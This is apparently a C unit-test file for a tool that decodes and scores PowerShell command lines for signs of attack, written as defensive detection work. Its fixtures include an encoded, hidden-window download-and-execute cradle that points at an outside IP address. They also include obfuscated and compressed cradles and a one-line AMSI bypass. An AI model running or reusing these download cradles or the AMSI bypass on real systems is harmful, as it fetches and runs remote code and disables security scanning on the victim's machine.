/*
 * test-analysis.c - unit tests of the analysis' pure functions: base64 and
 * -EncodedCommand decoding, PowerShell scoring (malicious and benign
 * command lines), path normalisation, and the fuzz target's entry point on
 * crafted inputs.
 */
#include "compat.h"

#include "unit.h"

#include "analyze.h"
#include "buf.h"
#include "paths.h"
#include "pwsh.h"
#include "words.h"

/* The reference case's stage-1 command: IEX cradle, base64 of UTF-16LE. */
static const char ref_cmd[] =
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoP -NonI -W Hidden -Enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE"
    "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA3ADYALgA1ADMALgAxADEA"
    "OAAuADEAMwAxAC8AbABvAGcAbwAuAHAAbgBnACcAKQA=";

/* Base64 with padding, with whitespace, invalid, over the cap. */
UNIT_CASE(base64)
{
	struct ct_buf b = CT_BUF_INIT;

	CHECK_INT(ct_pwsh_base64_decode("aGVsbG8=", 8, 100, &b), 0);
	CHECK_STR(b.buf, "hello");
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_base64_decode("aGVs bG8", 8, 100, &b), 0);
	CHECK_STR(b.buf, "hello");
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_base64_decode("aG*s", 4, 100, &b), -1);
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_base64_decode("aGVsbG8=", 8, 4, &b), -1);
	ct_buf_release(&b);
}

UNIT_CASE(decode_command_line)
{
	struct ct_buf b = CT_BUF_INIT;

	CHECK_INT(ct_pwsh_decode_command_line(ref_cmd, &b), 1);
	CHECK_STR(b.buf, "IEX (New-Object Net.WebClient).DownloadString("
	    "'http://176.53.118.131/logo.png')");
	ct_buf_reset(&b);
	/* Other spellings of the switch. */
	CHECK_INT(ct_pwsh_decode_command_line("powershell /e ZABpAHIA", &b), 1);
	CHECK_STR(b.buf, "dir");
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_decode_command_line(
	    "pwsh.exe -EncodedCommand \"ZABpAHIA\"", &b), 1);
	CHECK_STR(b.buf, "dir");
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_decode_command_line("powershell -ec ZABpAHIA", &b), 1);
	ct_buf_reset(&b);
	/* -ExecutionPolicy is not -EncodedCommand. */
	CHECK_INT(ct_pwsh_decode_command_line(
	    "powershell -ex bypass -File x.ps1", &b), 0);
	/* No command: nothing. Not base64: -1. Odd byte count: -1. */
	CHECK_INT(ct_pwsh_decode_command_line("powershell -NoProfile", &b), 0);
	CHECK_INT(ct_pwsh_decode_command_line("powershell -enc ***", &b), -1);
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_decode_command_line("powershell -enc ZGly", &b), -1);
	/* -enc after -Command belongs to the command text. */
	ct_buf_reset(&b);
	CHECK_INT(ct_pwsh_decode_command_line(
	    "powershell -Command echo -enc ZABpAHIA", &b), 0);
	CHECK_INT(ct_pwsh_decode_command_line(NULL, &b), 0);
	ct_buf_release(&b);
}

/* The reference case's stage-1 command: every tag it earns, severity 3. */
UNIT_CASE(score_reference)
{
	struct ct_pwsh_score s;

	ct_pwsh_assess(ref_cmd, NULL, &s);
	CHECK(s.tags & CT_PS_ENCODED);
	CHECK(s.tags & CT_PS_HIDDEN);
	CHECK(s.tags & CT_PS_NOPROFILE);
	CHECK(s.tags & CT_PS_NONINTERACTIVE);
	CHECK(s.tags & CT_PS_CRADLE);	/* seen in the decoded text */
	CHECK(s.tags & CT_PS_IEX);
	CHECK_INT(s.severity, 3);
}

/* Benign administration stays info. */
UNIT_CASE(score_benign)
{
	struct ct_pwsh_score s;

	ct_pwsh_assess("powershell.exe -NoProfile -Command \"Get-Service | "
	    "Where-Object Status -eq Running\"", NULL, &s);
	CHECK_INT(s.severity, 0);
	CHECK(!(s.tags & CT_PS_CRADLE));
	ct_pwsh_assess("powershell.exe Get-EventLog -LogName System -Newest 50",
	    NULL, &s);
	CHECK_INT(s.severity, 0);
	ct_pwsh_assess(NULL, "Get-ChildItem -Path C:\\Users -Recurse | "
	    "Where-Object { $_.Length -gt 1MB } | Sort-Object Length", &s);
	CHECK_INT(s.tags, 0);
	/* Words containing "iex" are not Invoke-Expression. */
	ct_pwsh_assess(NULL, "$diexample = 1; $x.piexe", &s);
	CHECK(!(s.tags & CT_PS_IEX));
}

UNIT_CASE(score_obfuscated)
{
	struct ct_pwsh_score s;

	/* Obfuscation: char codes with -join, IEX from $PSHome. */
	ct_pwsh_assess("powershell.exe -exec bypass -noni -nop -w 1 -C & "
	    "( $PshOMe[4]+$PshoME[30]+'X')(( (91 , 78,101 ,116 ,46, 83,101 , "
	    "114, 118 ,105,99, 101 , 80,111 ,105 , 110,116 ,77,97 , 110 , 97,"
	    "103 ,101 ,114 , 93 ,58 ,58, 83, 101 , 114 ,118 ,101 , 114 , 67 ,"
	    "101, 114 ,116 ,105,102 ,105,99 ,97 ,116, 101 ) | % {[char]$_}) "
	    "-join '')", NULL, &s);
	CHECK(s.tags & CT_PS_OBFUSCATED);
	CHECK(s.tags & CT_PS_IEX);
	CHECK(s.tags & CT_PS_HIDDEN);
	CHECK(s.tags & CT_PS_BYPASS);
	CHECK(s.severity >= 2);
	/* String concatenation (Emotet style). */
	ct_pwsh_assess(NULL, "$a=('h'+'ttp')+(':'+'//')+('q'+'u'+'a')+('s.com'"
	    "+'/')+'w'+'p-'+'a'+('d'+'min');$w=&('new-'+'obje'+'c'+'t') "
	    "neT.WEbcLiENt", &s);
	CHECK(s.tags & CT_PS_OBFUSCATED);
	CHECK(s.tags & CT_PS_CRADLE);
}

/* Compressed base64 payload and AMSI bypass. */
UNIT_CASE(score_compressed_amsi)
{
	struct ct_pwsh_score s;

	ct_pwsh_assess(NULL, "IEX(New-Object IO.StreamReader(New-Object "
	    "IO.Compression.GzipStream([IO.MemoryStream][Convert]::"
	    "FromBase64String('H4sI'),[IO.Compression.CompressionMode]::"
	    "Decompress))).ReadToEnd()", &s);
	CHECK(s.tags & CT_PS_COMPRESS);
	CHECK(s.tags & CT_PS_B64);
	ct_pwsh_assess(NULL, "[Ref].Assembly.GetType('System.Management."
	    "Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,"
	    "Static').SetValue($null,$true)", &s);
	CHECK(s.tags & CT_PS_AMSI);
}

/* Start-BitsTransfer is a cradle. */
UNIT_CASE(score_bits)
{
	struct ct_pwsh_score s;

	ct_pwsh_assess(NULL, "Start-BitsTransfer -Priority foreground -Source "
	    "https://example.org/a.ps1 -Destination C:\\Users\\bits.ps1", &s);
	CHECK(s.tags & CT_PS_CRADLE);
}

/* Tags by number; one out of range is "?". */
UNIT_CASE(tag_names)
{
	CHECK_STR(ct_pwsh_tag_name(0), "encoded command");
	CHECK_STR(ct_pwsh_tag_name(99), "?");
}

UNIT_CASE(payloads)
{
	struct ct_buf b = CT_BUF_INIT;
	struct ct_pwsh_score s;
	/* gzip of "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" */
	static const char gz[] = "$s=New-Object IO.MemoryStream(,[Convert]::"
	    "FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0d"
	    "RzyS/Py8lPTAkuKcrMS9dQzygpKbDS16/QT1TXBACk1JhNOwAAAA=='));"
	    "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream"
	    "($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";

	CHECK_INT(ct_pwsh_decode_payloads(gz, &b), 1);
	CHECK_STR(b.buf, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
	ct_pwsh_assess(NULL, gz, &s);
	CHECK(s.tags & CT_PS_COMPRESS);
	CHECK(s.tags & CT_PS_CRADLE);	/* only inside the compressed payload */
	ct_buf_reset(&b);
	/* UTF-16LE payload, no compression. */
	CHECK_INT(ct_pwsh_decode_payloads("[Text.Encoding]::Unicode.GetString("
	    "[Convert]::FromBase64String(\"ZABpAHIAIABDADoAXAA=\"))", &b), 1);
	CHECK_STR(b.buf, "dir C:\\");
	ct_buf_reset(&b);
	/* Not base64, too short, not quoted: nothing. */
	CHECK_INT(ct_pwsh_decode_payloads("FromBase64String($x)", &b), 0);
	CHECK_INT(ct_pwsh_decode_payloads("FromBase64String('QUJD')", &b), 0);
	CHECK_INT(ct_pwsh_decode_payloads(NULL, &b), 0);
	/* Binary: described, not copied. */
	CHECK_INT(ct_pwsh_decode_payloads("FromBase64String('gIGCg4SFhoeIiYqLjI2Ojw==')", &b), 1);
	CHECK(strstr(b.buf, "bytes of binary data") != NULL);
	ct_buf_release(&b);
}

/* Windows, NT device, \\??\\ and volume-GUID paths to one lower-case form. */
UNIT_CASE(normpath)
{
	struct ct_buf b = CT_BUF_INIT;

	an_normpath(&b, "C:\\Users\\JDoe\\AppData\\Local\\Temp\\QEUpd\\x.EXE");
	CHECK_STR(b.buf, "/users/jdoe/appdata/local/temp/qeupd/x.exe");
	ct_buf_reset(&b);
	an_normpath(&b, "/Users/jdoe/AppData/Local/Temp/QEUpd/x.exe");
	CHECK_STR(b.buf, "/users/jdoe/appdata/local/temp/qeupd/x.exe");
	ct_buf_reset(&b);
	an_normpath(&b, "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe");
	CHECK_STR(b.buf, "/windows/system32/cmd.exe");
	ct_buf_reset(&b);
	an_normpath(&b, "\\??\\C:\\Windows\\system32\\conhost.exe");
	CHECK_STR(b.buf, "/windows/system32/conhost.exe");
	ct_buf_reset(&b);
	an_normpath(&b, "\\VOLUME{01d9a1b2c3d4e5f6-1a2b3c4d}\\USERS\\BOB\\DROP.EXE");
	CHECK_STR(b.buf, "/users/bob/drop.exe");
	ct_buf_release(&b);
}

UNIT_CASE(file_basename)
{
	struct ct_buf b = CT_BUF_INIT;

	an_basename(&b, "C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe");
	CHECK_STR(b.buf, "qeupdate.exe");
	ct_buf_release(&b);
}

/* Folders a user can write to, on normalised paths. */
UNIT_CASE(user_writable)
{
	CHECK(an_user_writable("/users/jdoe/appdata/local/temp/x.exe"));
	CHECK(an_user_writable("/windows/temp/update.bat"));
	CHECK(!an_user_writable("/program files (x86)/quilledit/qeupdate.exe"));
	CHECK(!an_user_writable("/windows/system32/cmd.exe"));
}

/* Case-insensitive search, as for 'ping -n'. */
UNIT_CASE(find_nocase)
{
	CHECK(an_strcasestr("ping -N 3", "-n") != NULL);
	CHECK(an_strcasestr("abc", "x") == NULL);
}

/* Times in the narrative's words, to the second. */
UNIT_CASE(time_words)
{
	struct ct_buf b = CT_BUF_INIT;

	an_time_words(&b, 133548121356000000LL);
	CHECK_STR(b.buf, "2024-03-13 14:02:15 UTC");
	ct_buf_release(&b);
}

/* PowerShell hosts by image path, in any case. */
UNIT_CASE(pwsh_host)
{
	CHECK(ct_pwsh_is_host("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE"));
	CHECK(!ct_pwsh_is_host("C:\\Windows\\System32\\cmd.exe"));
}

/* Severity names to ranks; an unknown name is -1. */
UNIT_CASE(severity_rank)
{
	CHECK_INT(ct_severity_rank("high"), 3);
	CHECK_INT(ct_severity_rank("bogus"), -1);
}

/* Crafted inputs through the fuzz target's entry point (fuzz-pwsh.c). */
UNIT_CASE(fuzz_replay)
{
	static const char *const inputs[] = {
		"", "powershell -e", "powershell -e \"", "powershell -enc =",
		"powershell -w", "\"\"\"\"", "powershell -enc QQ==QQ==",
		"iex\0iex", "-join '' [char] ' + ' ' + '",
	};
	size_t i;

	for (i = 0; i < CT_ARRAY_SIZE(inputs); i++)
		CHECK_INT(ct_pwsh_fuzz_one((const uint8_t *)inputs[i],
		    strlen(inputs[i])), 0);
}

static const struct unit_case cases[] = {
	{ "base64", base64 },
	{ "decode_command_line", decode_command_line },
	{ "score_reference", score_reference },
	{ "score_benign", score_benign },
	{ "score_obfuscated", score_obfuscated },
	{ "score_compressed_amsi", score_compressed_amsi },
	{ "score_bits", score_bits },
	{ "tag_names", tag_names },
	{ "normpath", normpath },
	{ "file_basename", file_basename },
	{ "user_writable", user_writable },
	{ "find_nocase", find_nocase },
	{ "time_words", time_words },
	{ "pwsh_host", pwsh_host },
	{ "severity_rank", severity_rank },
	{ "payloads", payloads },
	{ "fuzz_replay", fuzz_replay },
	{ NULL, NULL }
};

int
main(int argc, char **argv)
{
	return unit_run(cases, argc, argv);
}
